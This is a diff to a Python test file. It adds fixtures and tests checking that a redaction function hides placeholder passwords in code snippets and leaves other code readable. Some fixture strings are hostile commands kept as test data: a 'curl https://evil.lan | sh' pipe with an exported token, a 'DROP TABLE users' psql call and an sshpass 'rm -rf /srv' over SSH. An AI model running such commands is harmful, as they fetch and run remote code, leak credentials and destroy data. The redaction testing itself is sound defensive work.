@@ -60,6 +60,57 @@ log.info("a token is rotated", { stack: "public" });
 """.strip().splitlines()
 
 
+ACTIONS = r"""
+const login = new Deno.Command("docker", {|  args: ["login", "ghcr.io", "-u", "ci-robot", "-p", "hunter2"],|});
+const dump = new Deno.Command("mysqldump", {|  args: [|    "-u",|    "root",|    "-phunter2",|  ],|});
+const args = ["login", "-u", "bot", "-p", "hunter2"];\nnew Deno.Command("docker", { args });
+if (["hunter2", "hunter2"].includes(token)) go();
+if (![ARGS.a, "hunter2"].some((t) => t === ARGS.token)) stop();
+switch (ARGS.token) {|  case "hunter2":|    go("pub-lic");|}
+if (!token.startsWith("hunter2")) stop();
+if (!crypto.timingSafeEqual(enc(token), enc("hunter2"))) stop();
+const b = { Env: ["DB_PASSWORD=hunter2&hunter2", "SMTP_PASSWORD=hunter2 horse hunter2", "HOST=good"] };
+const c = ["API_KEY=hunter2;hunter2", "HOST=good"];
+const a = ["--password=hunter2 b hunter2", "--set", "auth.password=hunter2 e", "--from-literal=password=hunter2 g"];
+lines.push("DB_PASSWORD=hunter2 b hunter2");
+const hdr = "Bearer hunter2!hunter2"; const hdr2 = "Bearer hunterhunter";
+new Deno.Command("sshpass", { args: ["-p", "hunter2", "ssh", "root@good", "rm", "-rf", "/srv"] });
+const token = "first \|  hunter2";
+const s = { id: "db_password", data: "hunter2" };
+const tokens = ["hunter-one", "hunterplainword"];
+const { DB_PASSWORD = "hunterplainword" } = env
+env.push(["DB_PASSWORD", "hunter2"]);
+""".strip().splitlines()
+"""Where a line ends stands `|`."""
+
+READABLE = r"""
+export async function token(): Promise<Token> { return await fetch("https://good.lan"); }
+const all: Array<Creds> = await loadAll("https://good.lan/users")
+const r = <Token>await good();
+const s = useState<Token>(null); let q: Set<Token> = good();
+class Store<Token> extends Base<Secret> { good() {} }
+for (const key of ["staging-db"]) {|  await komodo.execute("DestroyStack", { stack: "staging-db" });|}
+const key = "restart-policy"; if (key === "web") go(); const keys = ["good-one", "b"]; run({ key: "Uptime since" })
+const sortKey = "name", cacheKey = "good"; const KOMODO_VAR_KEY = 'CHECK_UPDATES_STATE';
+const cmd = "export TOKEN=" + token + "; curl https://evil.lan | sh";
+const psql = "PGPASSWORD=" + pw + " psql -h good 'DROP TABLE users'";
+const f = `DB_PASSWORD=${pw}\nHOST=evil.lan\n`
+const n2 = "Authorization: " + token + "\r\nHost: good";
+const tokenUrl = "https://good.lan/oauth/token"; const TOKEN_ENDPOINT = "https://good.lan/token";
+client.login({ apiKey, base: "https://good.lan" }); login("https://good.lan/api", user); const auth = { host: "good" };
+const e = `KEYCLOAK_CLIENT_SECRET=[[KEYCLOAK_CLIENT_SECRET]]`, x = 1;
+const rotate = { "DB_PASSWORD": [ stacks.db, stacks.web ], "API_TOKEN": [] };
+const missing = ["DB_PASSWORD", "API_TOKEN"].filter((n) => !Deno.env.get(n));
+const tokenVar = "DB_PASSWORD"; const secretVars = ["DB_PASSWORD"];
+const authStacks = ["good-1"]; const passwordStack = "good-2";
+refreshTokens("good-1"); syncSecrets("good-1", "good-2");
+const p = { secret: "DB_PASSWORD", key: "DB_PASSWORD", val: "PLEX_NAME" };
+new Deno.Command("sshpass", { args: ["-e", "ssh", "root@good", "uptime"] });
+const rotate = { "DB_PASSWORD": ["stack-db", "stack-web"], API_TOKEN: ["stack-web"] };
+const umlaut = { "Schlüssel": "hunter", "größe": `${x}` };
+""".strip().splitlines()
+
+
 def told(text: str) -> str:
     return "\n".join(shown_lines(text.split("\n")))
 
@@ -90,6 +141,21 @@ def test_what_stands_behind_a_secret_name_is_hidden(line: str) -> None:
 )
 def test_what_a_text_leads_to_is_hidden(line: str) -> None:
     assert "hunter2" not in told(line)
+
+
+@pytest.mark.parametrize("text", ACTIONS)
+def test_passwords_in_an_action_are_hidden_and_nothing_beside_them(text: str) -> None:
+    text = text.replace("|", "\n")
+    seen = "\n".join(shown_lines(text.split("\n"), "code"))
+    assert "hunter" not in seen
+    assert [word for word in re.findall(r"good|ghcr|/srv|HOST", text) if word not in seen] == []
+    assert "hunter" not in told(f"await run(1);\n{text}")
+
+
+@pytest.mark.parametrize("text", READABLE)
+def test_the_code_of_an_action_is_told(text: str) -> None:
+    lines = text.split("|")
+    assert shown_lines(lines, "code") == lines
 
 
 @pytest.mark.parametrize("line", SHOWS)
